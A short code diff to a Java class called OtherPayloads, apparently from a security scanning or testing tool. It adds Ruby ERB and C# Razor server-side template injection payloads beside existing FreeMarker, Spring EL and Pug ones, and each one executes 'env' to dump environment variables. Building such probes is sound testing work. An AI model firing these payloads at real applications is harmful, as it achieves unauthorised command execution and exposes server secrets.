@@ -50,6 +50,8 @@ final class OtherPayloads {
           call.contains("freemarker")
               ? "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"env\")}"
               : "${T(java.lang.Runtime).getRuntime().exec('env')}";
+      case RUBY -> "<%= `env` %>";
+      case CSHARP -> "@(System.Diagnostics.Process.Start(\"env\"))";
       case PYTHON, JAVASCRIPT, TYPESCRIPT ->
           call.startsWith("pug")
               ? "#{global.process.mainModule.require('child_process').execSync('env')}"
